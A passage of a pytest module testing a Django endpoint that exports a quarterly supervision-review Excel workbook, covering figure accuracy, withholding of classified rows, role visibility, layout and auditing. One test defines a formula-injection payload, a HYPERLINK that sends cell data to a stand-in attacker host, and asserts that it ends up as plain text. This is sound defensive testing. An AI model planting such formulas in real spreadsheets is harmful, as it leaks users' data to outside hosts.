"""The quarterly review workbook (季度盘点, /api/v1/stats/quarterly-workbook/): opened with openpyxl,
its figures equal the stats API's for the same user and quarter, and equal the hand count below;
the detail rows obey visibility and the export rule for classified items (DOMAIN.md rule 13).

The clock stands at Monday 2026-11-16 10:00 (Asia/Shanghai). Working days follow the seeded 2026
calendar: 中秋 09-25..09-27 off, 09-20 (Sunday) on, 国庆 10-01..10-07 off, 10-10 (Saturday) on.

    item  lead / support   instr (kind, leader)       status        deadline (orig)   assigned  closed  created
    R1    edu / env        A (meeting, L1)            verified      08-14             07-01     08-10   06-30
    R2    edu              A                          closed        09-30 (09-15)     09-01     09-28   08-31
    R3    env              B (leader_instr, L2)       in_progress   09-20  挂牌督办     08-20     -       08-19
    R4    edu / env        A                          in_progress   07-31             07-01     -       06-15
    R5    edu, 秘密         D (leader_instr, L1)       in_progress   09-10             08-03     -       07-31
    R6    town_sub         C (public_report, 系统外)   in_progress   10-30             10-08     -       10-07
    R7    env              B                          acknowledged  12-18 (warn 12-01) 11-03    -       11-02
    R8    edu              C                          draft         12-31             -         -       11-12

Overdue now: R4 R5 R3 R6 (by deadline). Working days overdue, (deadline, 11-16]:
    R6 10-30: Nov 2–6, 9–13, 16 → 11
    R3 09-20: Sep 21–24 = 4, 28–30 = 3, Oct 8–9 = 2, 10 (Sat, 调休) = 1, Oct 12–30 = 15, Nov → 11: 36
    R5 09-10: Sep 11, 14–18, 20, 21–24, 28–30 = 14, Oct 1 → Nov 16 = 29: 43
    R4 07-31: Aug 3–31 = 21, Sep 1–30 = 22, Oct 1 → Nov 16 = 29: 72

Overdue explanations (missed deadline in Q3 unless noted):
    R4 / 县教育局  subjective, filed 08-05 by edu_handler, ruled 08-10 accountability → 纪检监察机关
    R4 / 县环保局  never filed, not ruled (待认定)
    R5 / 县教育局  objective, filed 09-15 by edu_head, not ruled (秘密: held back without approval)
    R3 / 县环保局  objective, filed 09-22 by env_handler, ruled 09-29 exemption
    R6 / 黄庄乡农业服务中心  opened 11-02 (deadline 10-30: Q4, not in the Q3 sheet)
"""

from __future__ import annotations

import datetime
import hashlib
import io
from types import SimpleNamespace
from urllib.parse import quote
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl.chart import BarChart, LineChart, PieChart

from accounts.choices import Classification, Role
from supervision.choices import InstructionKind, ItemStatus, ReasonKind, Ruling
from supervision.exchange.export import XLSX_CONTENT_TYPE
from supervision.models import AuditEvent, Item, OverdueExplanation
from supervision.services import (
    overdue_explanation_endorse,
    overdue_explanation_rule,
    overdue_explanation_submit,
    overdue_explanations_open,
)
from supervision.stats.quarterly import quarterly_review_workbook
from tests.api_helpers import assert_error, client_for
from tests.factories import UnitFactory, UserFactory, audit_mark, make_instruction, make_item, new_events
from tests.module_data import clocked_ledger_fixtures, reread

pytestmark = pytest.mark.django_db
SHANGHAI = ZoneInfo("Asia/Shanghai")
D = datetime.date
NOW = datetime.datetime(2026, 11, 16, 10, 0, tzinfo=SHANGHAI)
Q3 = {"quarter": "2026Q3"}
URL = "/api/v1/stats/quarterly-workbook/"
SHEETS = ["口径说明", "汇总", "单位排名", "按来源", "按领导", "月度趋势", "超期清单", "超期说明及认定", "考核得分"]


def at(month: int, day: int, hour: int = 10) -> datetime.datetime:
    return datetime.datetime(2026, month, day, hour, 0, tzinfo=SHANGHAI)


def naive(month: int, day: int, hour: int = 10) -> datetime.datetime:
    return datetime.datetime(2026, month, day, hour, 0)


@pytest.fixture
def clock(monkeypatch):
    def set_to(moment: datetime.datetime):
        monkeypatch.setattr(timezone, "now", lambda: moment)

    return set_to


def build_ledger(w, clock) -> SimpleNamespace:
    """The ledger in the module docstring, built through the services, then back-dated."""
    clock(at(6, 1))
    L = SimpleNamespace(
        l1=w.leader,
        l2=UserFactory(username="leader2", full_name="副书记", roles=[Role.LEADER], clearance=Classification.CONFIDENTIAL),
    )
    A = make_instruction(office=w.office, kind=InstructionKind.MEETING_DECISION, issuing_leader=L.l1, title="常委会议定事项")
    B = make_instruction(office=w.office, kind=InstructionKind.LEADER_INSTRUCTION, issuing_leader=L.l2, title="副书记批示")
    C = make_instruction(office=w.office, kind=InstructionKind.PUBLIC_REPORT, issuer_name="12345 热线", title="群众反映问题")
    Dd = make_instruction(
        office=w.office,
        kind=InstructionKind.LEADER_INSTRUCTION,
        issuing_leader=L.l1,
        title="涉密批示",
        classification=Classification.SECRET,
    )
    edu = {"lead_unit": w.edu, "owner": w.edu_handler}
    env = {"lead_unit": w.env, "owner": w.env_handler}
    town_sub = {"lead_unit": w.town_sub, "owner": w.town_sub_handler}

    def item(name, state, unit, instruction, deadline, title, **kw):
        obj = make_item(state, office=w.office, instruction=instruction, deadline=deadline, title=title, **unit, **kw)
        setattr(L, name, obj)

    item("r1", ItemStatus.VERIFIED, edu, A, D(2026, 8, 14), "按期办结的校园安全整治", supporting_units=[w.env])
    item("r2", ItemStatus.CLOSED, edu, A, D(2026, 9, 15), "延期后办结的课后服务")
    item("r3", ItemStatus.IN_PROGRESS, env, B, D(2026, 9, 20), "河道污染整治")
    item("r4", ItemStatus.IN_PROGRESS, edu, A, D(2026, 7, 31), "校舍维修加固", supporting_units=[w.env])
    item("r5", ItemStatus.IN_PROGRESS, {**edu, "owner": w.edu_head}, Dd, D(2026, 9, 10), "涉密专项工作")
    item("r6", ItemStatus.IN_PROGRESS, town_sub, C, D(2026, 10, 30), "农田灌溉渠修复")
    item("r7", ItemStatus.ACKNOWLEDGED, env, B, D(2026, 12, 18), "新建污水处理站")
    item("r8", ItemStatus.DRAFT, edu, C, D(2026, 12, 31), "草稿事项")

    dates = {  # (assigned, closed, created)
        "r1": (at(7, 1), at(8, 10), at(6, 30)),
        "r2": (at(9, 1), at(9, 28), at(8, 31)),
        "r3": (at(8, 20), None, at(8, 19)),
        "r4": (at(7, 1), None, at(6, 15)),
        "r5": (at(8, 3), None, at(7, 31)),
        "r6": (at(10, 8), None, at(10, 7)),
        "r7": (at(11, 3), None, at(11, 2)),
        "r8": (None, None, at(11, 12)),
    }
    for name, (assigned, closed, created) in dates.items():
        Item.objects.filter(pk=getattr(L, name).pk).update(assigned_at=assigned, closed_at=closed, created_at=created)
    Item.objects.filter(pk=L.r2.pk).update(deadline=D(2026, 9, 30), extension_count=1)  # extended from 09-15
    Item.objects.filter(pk=L.r3.pk).update(listed_for_supervision_at=at(10, 9))
    Item.objects.filter(pk=L.r7.pk).update(warning_date=D(2026, 12, 1))
    for name in dates:
        setattr(L, name, Item.objects.get(pk=getattr(L, name).pk))

    # Overdue explanations, on the days the sweep, the units and the office would have acted.
    overdue_explanations_open(item=L.r4, today=D(2026, 8, 3))
    overdue_explanations_open(item=L.r5, today=D(2026, 9, 11))
    overdue_explanations_open(item=L.r3, today=D(2026, 9, 21))
    overdue_explanations_open(item=L.r6, today=D(2026, 11, 2))

    def explanation(item, unit):
        return OverdueExplanation.objects.get(item=item, unit=unit)

    clock(at(8, 5))
    overdue_explanation_submit(
        actor=w.edu_handler, explanation=explanation(L.r4, w.edu), reason_kind=ReasonKind.SUBJECTIVE, text="人员调整，推进不力"
    )
    # The unit head signs a handler's explanation before the office rules on it (rule 14).
    overdue_explanation_endorse(actor=w.edu_head, explanation=explanation(L.r4, w.edu))
    clock(at(8, 10))
    overdue_explanation_rule(
        actor=w.office, explanation=explanation(L.r4, w.edu), ruling=Ruling.ACCOUNTABILITY, comment="主观原因，严格问责"
    )
    clock(at(9, 15))
    overdue_explanation_submit(
        actor=w.edu_head, explanation=explanation(L.r5, w.edu), reason_kind=ReasonKind.OBJECTIVE, text="等待上级批复"
    )
    clock(at(9, 22))
    overdue_explanation_submit(
        actor=w.env_handler, explanation=explanation(L.r3, w.env), reason_kind=ReasonKind.OBJECTIVE, text="台风影响停工"
    )
    overdue_explanation_endorse(actor=w.env_head, explanation=explanation(L.r3, w.env))
    clock(at(9, 29))
    overdue_explanation_rule(actor=w.office, explanation=explanation(L.r3, w.env), ruling=Ruling.EXEMPTION, comment="情况属实")
    clock(NOW)
    return L


_built, world = clocked_ledger_fixtures(build_ledger)


@pytest.fixture
def ledger(_built, world, clock):
    clock(NOW)
    return reread(_built.ledger)


# ---------------------------------------------------------------------------------------------
# Reading the workbook


def download(user, params=None, **extra):
    response = client_for(user).get(URL, params or {}, **extra)
    assert response.status_code == 200, (response.status_code, response.content[:500])
    return response


def workbook(user, params=None):
    return openpyxl.load_workbook(io.BytesIO(download(user, params).content))


def api(user, path, params):
    response = client_for(user).get(f"/api/v1/stats/{path}/", params)
    assert response.status_code == 200, response.content[:300]
    return response.json()


def find(ws, text, column=None):
    """(row, column) of the first cell holding exactly `text`."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == text and (column is None or cell.column == column):
                return cell.row, cell.column
    raise AssertionError(f"{text!r} not on sheet {ws.title}")


def table(ws, first_header, *, column=None):
    """The rows under the header row holding `first_header`, as dicts, up to the first blank row
    or the first note under the table (text in the first column only)."""
    header_row, first_col = find(ws, first_header, column)
    headers = []
    col = first_col
    while ws.cell(row=header_row, column=col).value is not None:
        headers.append(ws.cell(row=header_row, column=col).value)
        col += 1
    rows = []
    row = header_row + 1
    while ws.cell(row=row, column=first_col).value is not None:
        values = [ws.cell(row=row, column=first_col + i).value for i in range(len(headers))]
        if all(v is None for v in values[1:]):
            break  # a note under the table
        rows.append(dict(zip(headers, values, strict=True)))
        row += 1
    return rows, header_row


def every_text(wb) -> str:
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None)


def summary_values(ws) -> dict:
    rows, _ = table(ws, "指标")
    return {r["指标"]: r["数值"] for r in rows}


API_SUMMARY = {
    "事项总数": "total",
    "应办结": "due",
    "已办结": "closed",
    "按原定时限按时办结": "closed_on_time_original",
    "落实率": "implementation_rate",
    "按原定时限按时办结率": "on_time_rate_original",
    "应办结（按现时限，参考）": "due_current",
    "按现时限按时办结（参考）": "closed_on_time_extended",
    "落实率（按现时限，参考）": "implementation_rate_current",
    "按现时限按时办结率（参考）": "on_time_rate_extended",
    "超期（当前）": "overdue",
    "按原定时限超期（当前）": "overdue_original",
    "在办有时限（当前）": "open_with_deadline",
    "超期率（当前）": "overdue_rate",
    "统计期内销号": "closed_in_period",
    "平均办结工作日": "average_workdays_to_close",
    "反弹（统计期内回访未通过）": "relapsed",
    "已交办（统计期内）": "assigned",
    "办结率": "completion_rate",
    "在办率": "in_progress_rate",
    "停滞": "stale",
    "停滞率": "stale_rate",
    "回访后重新办理": "reopened",
}
FIGURES = [
    ("合计", "total"),
    ("应办结", "due"),
    ("已办结", "closed"),
    ("按原定时限按时办结", "closed_on_time_original"),
    ("按延期后时限按时办结", "closed_on_time_extended"),
    ("超期（当前）", "overdue"),
    ("落实率", "implementation_rate"),
    ("按原定时限按时办结率", "on_time_rate_original"),
    ("按延期后时限按时办结率", "on_time_rate_extended"),
]


def plain(value):
    return value["count"] if isinstance(value, dict) else value


def api_figures(group: dict) -> list:
    return [plain(group[key]) for _label, key in FIGURES]


def unit_rows(ws) -> list[tuple]:
    """(unit, lead figures, supporting figures) per row of the two-level unit ranking."""
    header_row, first = find(ws, "合计")
    n = len(FIGURES)
    out = []
    row = header_row + 1
    while ws.cell(row=row, column=2).value is not None and isinstance(ws.cell(row=row, column=1).value, int):
        values = [ws.cell(row=row, column=c).value for c in range(first, first + 2 * n)]
        out.append((ws.cell(row=row, column=2).value, values[:n], values[n:]))
        row += 1
    return out


def assert_matches_the_api(wb, user, params):
    """Every figure on the aggregate sheets equals the stats API's for the same user and query."""
    summary = api(user, "summary", params)
    values = summary_values(wb["汇总"])
    assert values == {label: plain(summary[key]) for label, key in API_SUMMARY.items()}
    statuses, _ = table(wb["汇总"], "状态")
    assert [(r["状态"], r["事项数"]) for r in statuses] == [(s["label"], s["count"]) for s in summary["by_status"]]
    lights, _ = table(wb["汇总"], "红黄绿灯")
    assert [(r["红黄绿灯"], r["事项数"]) for r in lights] == [(s["label"], s["count"]) for s in summary["by_light"]]

    units = api(user, "units", params)["results"]
    assert unit_rows(wb["单位排名"]) == [(r["unit"]["name"], api_figures(r["lead"]), api_figures(r["supporting"])) for r in units]
    for sheet, path, name_of in (
        ("按来源", "kinds", lambda r: r["label"]),
        ("按领导", "leaders", lambda r: r["leader"]["name"] if r["leader"] else "系统外批示人"),
    ):
        rows, _ = table(wb[sheet], "序号")
        expected = api(user, path, params)["results"]
        assert [[r[h] for h, _k in FIGURES] for r in rows] == [api_figures(e) for e in expected], sheet
        assert [list(r.values())[1] for r in rows] == [name_of(e) for e in expected], sheet
    return summary


# ---------------------------------------------------------------------------------------------
# The figures


def test_figures_equal_the_stats_api_and_the_hand_count(world, ledger):
    wb = workbook(world.office, Q3)
    assert wb.sheetnames == [*SHEETS, "基层负担"]  # the burden sheet is the office's and the leaders'
    summary = assert_matches_the_api(wb, world.office, Q3)
    values = summary_values(wb["汇总"])
    # Hand count: due in Q3 R1 R2 R3 R4 R5; closed R1 R2; on time R1 (original), R1 R2 (extended).
    assert (values["事项总数"], values["应办结"], values["已办结"], values["落实率"]) == (8, 5, 2, 0.4)
    assert (values["按原定时限按时办结率"], values["按现时限按时办结率（参考）"]) == (0.2, 0.4)
    # Overdue now R3 R4 R5 R6 of five open with a deadline (+ R7).
    assert (values["超期（当前）"], values["在办有时限（当前）"], values["超期率（当前）"]) == (4, 5, 0.8)
    assert values["平均办结工作日"] == 23.5  # (28 + 19) / 2
    assert values["回访后重新办理"] == 0
    assert summary["implementation_rate"] == 0.4
    lights, _ = table(wb["汇总"], "红黄绿灯")
    assert {r["红黄绿灯"]: r["事项数"] for r in lights} == {"无": 3, "绿灯": 1, "黄灯": 0, "红灯": 0, "超期": 4}
    # Each rate's definition stands beside it.
    rows, _ = table(wb["汇总"], "指标")
    definition = next(r["口径说明"] for r in rows if r["指标"] == "落实率")
    assert "落实率 = 已办结 ÷ 应办结" in definition


def test_unit_ranking_rows_lead_and_supporting_apart(world, ledger):
    wb = workbook(world.office, Q3)
    rows = unit_rows(wb["单位排名"])
    # Worst implementation rate first (as lead), null last.
    assert [name for name, _lead, _support in rows] == ["县环保局", "县教育局", "黄庄乡农业服务中心"]
    env, edu, town_sub = (dict(zip([h for h, _k in FIGURES], lead, strict=True)) for _n, lead, _s in rows)
    assert [edu[h] for h in ("合计", "应办结", "已办结", "超期（当前）", "落实率", "按原定时限按时办结率")] == [
        5,
        4,
        2,
        2,
        0.5,
        0.25,
    ]
    assert [env[h] for h in ("合计", "应办结", "已办结", "落实率")] == [2, 1, 0, 0.0]
    assert town_sub["应办结"] == 0 and town_sub["落实率"] is None and town_sub["超期（当前）"] == 1
    env_support = dict(zip([h for h, _k in FIGURES], rows[0][2], strict=True))
    assert [env_support[h] for h in ("合计", "应办结", "已办结", "超期（当前）", "落实率")] == [2, 2, 1, 1, 0.5]  # R1, R4
    edu_support = dict(zip([h for h, _k in FIGURES], rows[1][2], strict=True))
    assert edu_support["合计"] == 0 and edu_support["落实率"] is None


def test_kinds_and_leaders(world, ledger):
    wb = workbook(world.office, Q3)
    kinds = {r["来源类型"]: r for r in table(wb["按来源"], "序号")[0]}
    assert len(kinds) == len(InstructionKind)  # every kind listed
    assert (kinds["会议议定事项"]["应办结"], kinds["会议议定事项"]["已办结"], kinds["会议议定事项"]["落实率"]) == (3, 2, 0.6667)
    assert (kinds["领导批示"]["应办结"], kinds["领导批示"]["落实率"]) == (2, 0.0)  # R3, R5 (秘密 counted)
    assert kinds["群众、媒体、网络舆情反映"]["落实率"] is None
    leaders = {r["批示领导"]: r for r in table(wb["按领导"], "序号")[0]}
    assert (leaders["leader"]["应办结"], leaders["leader"]["落实率"]) == (4, 0.5)  # R1 R2 R4 R5
    assert (leaders["副书记"]["应办结"], leaders["副书记"]["落实率"]) == (1, 0.0)  # R3
    assert leaders["系统外批示人"]["合计"] == 2 and leaders["系统外批示人"]["应办结"] == 0


def test_monthly_trend_around_the_quarter(world, ledger):
    wb = workbook(world.office, Q3)
    rows, _ = table(wb["月度趋势"], "月份")
    assert [r["月份"] for r in rows] == ["2026-06", "2026-07", "2026-08", "2026-09", "2026-10"]
    assert [r["新立项"] for r in rows] == [2, 1, 2, 0, 1]  # R1 R4 | R5 | R2 R3 | - | R6
    assert [r["销号"] for r in rows] == [0, 0, 1, 1, 0]  # R1 | R2
    assert [r["月末超期"] for r in rows] == [0, 0, 1, 3, 4]  # R4 | R4 R5 R3 | + R6
    trend = api(world.office, "trend", {"period_start": "2026-06-01", "period_end": "2026-10-31"})["months"]
    assert [[r["月份"], r["新立项"], r["销号"], r["月末超期"]] for r in rows] == [
        [m["month"], m["created"]["count"], m["closed"]["count"], m["overdue_at_month_end"]["count"]] for m in trend
    ]
    # The current quarter: months not yet come are blank, and the current month is the overdue count now.
    rows, _ = table(workbook(world.office, {"quarter": "2026Q4"})["月度趋势"], "月份")
    assert [r["月份"] for r in rows] == ["2026-09", "2026-10", "2026-11", "2026-12", "2027-01"]
    assert [r["月末超期"] for r in rows] == [3, 4, 4, None, None]


# ---------------------------------------------------------------------------------------------
# Detail rows: overdue items, explanations and rulings; the export rule for classified items


def test_overdue_list_rows_and_the_classified_row_held_back(world, ledger):
    wb = workbook(world.office, Q3)
    ws = wb["超期清单"]
    rows, header_row = table(ws, "序号")
    assert [r["台账编号"] for r in rows] == [ledger.r4.code, ledger.r3.code, ledger.r6.code]  # R5 (秘密) held back
    r4, r3, r6 = rows
    assert r4 == {
        "序号": 1,
        "台账编号": ledger.r4.code,
        "事项名称": "校舍维修加固",
        "牵头单位": "县教育局",
        "责任人": "edu_handler",
        "原定时限": naive(7, 31, 0),
        "现办理时限": naive(7, 31, 0),
        "超期工作日": 72,
        "红黄绿灯": "超期",
        "状态": "办理中",
        "挂牌督办": "否",
    }
    assert (r3["超期工作日"], r3["挂牌督办"], r3["牵头单位"]) == (36, "是", "县环保局")
    assert (r6["超期工作日"], r6["牵头单位"], r6["责任人"]) == (11, "黄庄乡农业服务中心", "town_sub_handler")
    assert ws.cell(row=header_row + len(rows) + 1, column=1).value == "另有 1 项涉密事项未列出（未经批准）"
    # The held-back item's details appear nowhere in the file; its counts do (summary: 4 overdue).
    text = every_text(wb)
    assert ledger.r5.code not in text and "涉密专项工作" not in text and "等待上级批复" not in text
    assert summary_values(wb["汇总"])["超期（当前）"] == len(rows) + 1


def test_explanation_rows_and_rulings(world, ledger):
    wb = workbook(world.office, Q3)
    ws = wb["超期说明及认定"]
    rows, header_row = table(ws, "序号")
    assert [(r["台账编号"], r["责任单位"]) for r in rows] == [
        (ledger.r4.code, "县教育局"),
        (ledger.r4.code, "县环保局"),
        (ledger.r3.code, "县环保局"),
    ]  # R5 held back; R6's deadline (10-30) is not in Q3
    accountability, unfiled, exemption = rows
    assert accountability == {
        "序号": 1,
        "台账编号": ledger.r4.code,
        "事项名称": "校舍维修加固",
        "责任单位": "县教育局",
        "超期的办理时限": naive(7, 31, 0),
        "原因类型": "主观原因",
        "超期说明": "人员调整，推进不力",
        "说明人": "edu_handler",
        "说明时间": naive(8, 5),
        "认定结果": "问责",
        "认定意见": "主观原因，严格问责",
        "认定人": "office",
        "认定时间": naive(8, 10),
        "移交": "纪检监察机关",
    }
    assert (unfiled["原因类型"], unfiled["认定结果"], unfiled["说明时间"], unfiled["移交"]) == ("未说明", "待认定", None, None)
    assert (exemption["原因类型"], exemption["认定结果"], exemption["认定时间"], exemption["移交"]) == (
        "客观原因",
        "免责",
        naive(9, 29),
        None,
    )
    assert ws.cell(row=header_row + len(rows) + 1, column=1).value == "另有 1 条涉密事项的超期说明未列出（未经批准）"
    # Q4: R6's explanation (opened, not filed).
    rows, _ = table(workbook(world.office, {"quarter": "2026Q4"})["超期说明及认定"], "序号")
    assert [(r["台账编号"], r["责任单位"], r["认定结果"]) for r in rows] == [(ledger.r6.code, "黄庄乡农业服务中心", "待认定")]


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_a_formula_in_an_explanation_lands_as_text(world, ledger):
    """Issue 11 finding 3: what a unit typed never becomes a live formula in the workbook."""
    OverdueExplanation.objects.filter(item=ledger.r4, unit=world.edu).update(text=FORMULA, ruling_comment="+1-2")
    wb = workbook(world.office, Q3)
    ws = wb["超期说明及认定"]
    row, column = find(ws, FORMULA)
    cell = ws.cell(row=row, column=column)
    assert cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(row=row, column=find(ws, "+1-2")[1]).quotePrefix
    assert not [c.coordinate for sheet in wb for line in sheet.iter_rows() for c in line if c.data_type == "f"]


def test_an_approved_export_lists_the_classified_rows(world, ledger, monkeypatch):
    asked = []

    def allowed(*, user, classification):
        asked.append((user.pk, classification))
        return True

    monkeypatch.setattr("supervision.stats.quarterly.detail_export_allowed", allowed)
    wb = workbook(world.office, Q3)
    rows, header_row = table(wb["超期清单"], "序号")
    assert [r["台账编号"] for r in rows] == [ledger.r4.code, ledger.r5.code, ledger.r3.code, ledger.r6.code]
    assert (rows[1]["超期工作日"], rows[1]["责任人"], rows[1]["事项名称"]) == (43, "edu_head", "涉密专项工作")
    assert wb["超期清单"].cell(row=header_row + len(rows) + 1, column=1).value != "另有 1 项涉密事项未列出（未经批准）"
    explanations, _ = table(wb["超期说明及认定"], "序号")
    r5 = next(r for r in explanations if r["台账编号"] == ledger.r5.code)
    assert (r5["原因类型"], r5["认定结果"], r5["说明人"]) == ("客观原因", "待认定", "edu_head")
    assert "另有" not in every_text(wb)
    # Asked per classification, for this user, not once per row.
    assert {user for user, _c in asked} == {world.office.pk}
    assert sorted(c for _u, c in asked) == [Classification.PUBLIC, Classification.SECRET]


def test_an_item_above_clearance_is_neither_counted_nor_listed(world, ledger):
    wb = workbook(world.office_low, Q3)  # 内部: R5 (秘密) does not exist for them
    assert_matches_the_api(wb, world.office_low, Q3)
    values = summary_values(wb["汇总"])
    assert (values["事项总数"], values["应办结"], values["已办结"], values["超期（当前）"]) == (7, 4, 2, 3)
    rows, _ = table(wb["超期清单"], "序号")
    assert [r["台账编号"] for r in rows] == [ledger.r4.code, ledger.r3.code, ledger.r6.code]
    text = every_text(wb)
    # Not even a note: an item the user may not see leaves no trace.
    assert "另有" not in text and ledger.r5.code not in text and "涉密专项工作" not in text
    leaders = {r["批示领导"]: r for r in table(wb["按领导"], "序号")[0]}
    assert leaders["leader"]["应办结"] == 3  # R1 R2 R4 (R5 gone)


def test_a_unit_handler_sees_only_its_units_items(world, ledger):
    wb = workbook(world.edu_handler, Q3)  # 县教育局, 内部: R1 R2 R4 (R5 秘密, R8 draft)
    assert_matches_the_api(wb, world.edu_handler, Q3)
    values = summary_values(wb["汇总"])
    assert (values["事项总数"], values["应办结"], values["已办结"], values["超期（当前）"]) == (3, 3, 2, 1)
    overdue, _ = table(wb["超期清单"], "序号")
    assert [r["台账编号"] for r in overdue] == [ledger.r4.code]
    explanations, _ = table(wb["超期说明及认定"], "序号")
    # Its own unit's explanation only (no sideways copying of 县环保局's).
    assert [(r["台账编号"], r["责任单位"]) for r in explanations] == [(ledger.r4.code, "县教育局")]
    text = every_text(wb)
    for other in (ledger.r3, ledger.r6, ledger.r7, ledger.r5):
        assert other.code not in text and other.title not in text


def test_discipline_sees_the_referred_item_with_every_units_explanation(world, ledger):
    wb = workbook(world.discipline, Q3)  # R4 was referred to 纪检 by the accountability ruling
    assert summary_values(wb["汇总"])["事项总数"] == 1
    explanations, _ = table(wb["超期说明及认定"], "序号")
    assert [(r["责任单位"], r["认定结果"]) for r in explanations] == [("县教育局", "问责"), ("县环保局", "待认定")]


def test_filters_narrow_every_sheet(world, ledger):
    params = {**Q3, "unit": world.town.pk}  # the township and its sub-units: R6
    wb = workbook(world.office, params)
    assert_matches_the_api(wb, world.office, params)
    assert summary_values(wb["汇总"])["事项总数"] == 1
    assert [r[0] for r in unit_rows(wb["单位排名"])] == ["黄庄乡农业服务中心"]
    assert [r["台账编号"] for r in table(wb["超期清单"], "序号")[0]] == [ledger.r6.code]
    assert table(wb["超期说明及认定"], "序号")[0] == []
    assert "责任单位（含下级单位，牵头或配合）：黄庄乡" in wb["汇总"]["A2"].value

    params = {**Q3, "instruction_kind": "meeting_decision", "urgency": "normal", "order": "name"}
    wb = workbook(world.office, params)
    assert_matches_the_api(wb, world.office, params)
    assert [r["台账编号"] for r in table(wb["超期清单"], "序号")[0]] == [ledger.r4.code]
    assert [r[0] for r in unit_rows(wb["单位排名"])] == ["县教育局", "县环保局"]  # by name
    assert "来源类型：会议议定事项" in wb["汇总"]["A2"].value
    # The first sheet states the rules that keep the figures honest, as the API and the dashboard do.
    from supervision.stats.definitions import PRINCIPLES

    first = [row for row in wb["口径说明"].iter_rows(values_only=True)]
    assert [r[0] for r in first if r[0] in dict(PRINCIPLES)] == [title for title, _text in PRINCIPLES]
    assert all((title, text) in {(r[0], r[1]) for r in first} for title, text in PRINCIPLES)


# ---------------------------------------------------------------------------------------------
# Layout: charts, print setup, formats


def test_charts_print_setup_and_formats(world, ledger):
    wb = workbook(world.office, Q3)
    charts = {ws.title: [type(c) for c in ws._charts] for ws in wb.worksheets}
    assert charts == {
        "口径说明": [],
        "汇总": [BarChart, PieChart],
        "单位排名": [BarChart],
        "按来源": [BarChart],
        "按领导": [BarChart],
        "月度趋势": [LineChart],
        "超期清单": [],
        "超期说明及认定": [],
        "考核得分": [],
        "基层负担": [],
    }
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws["A1"].value.startswith("督查督办季度盘点") and ws["A1"].font.b, ws.title
        assert "2026年第三季度（2026-07-01 至 2026-09-30）" in ws["A2"].value, ws.title
        assert ws.freeze_panes is not None, ws.title
    overview = wb["汇总"]
    row, _ = find(overview, "落实率", column=1)
    assert overview.cell(row=row, column=2).number_format == "0.00%"
    assert overview.freeze_panes == "A4"
    units = wb["单位排名"]
    header_row, column = find(units, "落实率")
    assert units.cell(row=header_row + 1, column=column).number_format == "0.00%"
    assert units.freeze_panes == f"C{header_row + 1}"  # header rows and the unit names stay in view
    assert units.column_dimensions["B"].width >= 20
    overdue = wb["超期清单"]
    header_row, column = find(overdue, "现办理时限")
    assert overdue.cell(row=header_row + 1, column=column).number_format == "yyyy-mm-dd"
    assert overdue.print_title_rows == f"${header_row}:${header_row}"  # repeated on every printed page


# ---------------------------------------------------------------------------------------------
# The API: file, name, auth, errors, audit, schema


def test_download_is_an_xlsx_attachment_with_a_chinese_name_and_is_audited(world, ledger):
    mark = audit_mark()
    response = download(world.office, Q3)
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="quarterly-review-2026Q3.xlsx"' in disposition
    assert f"filename*=UTF-8''{quote('季度盘点_2026Q3.xlsx')}" in disposition
    assert response.content[:2] == b"PK"
    [event] = new_events(mark)
    assert (event.action, event.actor_id, event.item_id) == ("quarterly_review_exported", world.office.pk, None)
    assert event.data["quarter"] == "2026Q3" and event.data["period_start"] == "2026-07-01"
    assert (event.data["overdue_listed"], event.data["overdue_omitted"]) == (3, 1)
    assert (event.data["explanations_listed"], event.data["explanations_omitted"]) == (3, 1)
    assert event.data["sha256"] == hashlib.sha256(response.content).hexdigest()
    # The filters are on the record too.
    mark = audit_mark()
    download(world.office, {**Q3, "lead_unit": world.edu.pk})
    [event] = new_events(mark)
    assert event.data["filters"] == {"lead_unit": [str(world.edu.pk)]}


def test_session_login_and_accept_header_work(world, ledger):
    client = Client()
    client.force_login(world.office)
    response = client.get(URL, Q3)
    assert response.status_code == 200 and response["Content-Type"] == XLSX_CONTENT_TYPE
    response = client_for(world.office).get(URL, Q3, HTTP_ACCEPT=XLSX_CONTENT_TYPE)
    assert response.status_code == 200 and response.content[:2] == b"PK"
    # ?format= picks a renderer as elsewhere in the API; an unknown one is ignored, not a 404.
    for fmt in ("xlsx", "json", "pdf"):
        response = client_for(world.office).get(URL, {**Q3, "format": fmt})
        assert response.status_code == 200 and response["Content-Type"] == XLSX_CONTENT_TYPE, fmt
    # An error asked for as a spreadsheet is still the JSON error shape.
    response = client_for(world.office).get(URL, {"quarter": "2026Q5"}, HTTP_ACCEPT=XLSX_CONTENT_TYPE)
    assert response["Content-Type"].startswith("application/json")
    assert_error(response, 400, code="invalid", field="quarter")


def test_a_custom_period_review(world, ledger):
    response = download(world.office, {"period_start": "2026-07-01", "period_end": "2026-12-31"})
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert 'filename="review-2026-07-01_2026-12-31.xlsx"' in response["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    params = {"period_start": "2026-07-01", "period_end": "2026-12-31"}
    summary = assert_matches_the_api(wb, world.office, params)
    assert summary["due"]["count"] == 7  # + R6 (10-30) and R7 (12-18)
    rows, _ = table(wb["月度趋势"], "月份")
    assert rows[0]["月份"] == "2026-06" and rows[-1]["月份"] == "2027-01"


@pytest.mark.parametrize(
    "params, field",
    [
        ({}, "quarter"),
        ({"quarter": ""}, "quarter"),
        ({"quarter": "2026Q5"}, "quarter"),
        ({"quarter": "Q3-2026"}, "quarter"),
        ({"period_start": "2026-07-01"}, "quarter"),  # a period needs both ends
        ({"quarter": "2026Q3", "period_start": "2026-07-01"}, "quarter"),
        ({"period_start": "2026-10-01", "period_end": "2026-09-30"}, "period_end"),
        ({"period_start": "2026-13-01", "period_end": "2026-12-31"}, "period_start"),
        ({"quarter": "2026Q3", "status": "finished"}, "status"),
        ({"quarter": "2026Q3", "order": "best"}, "order"),
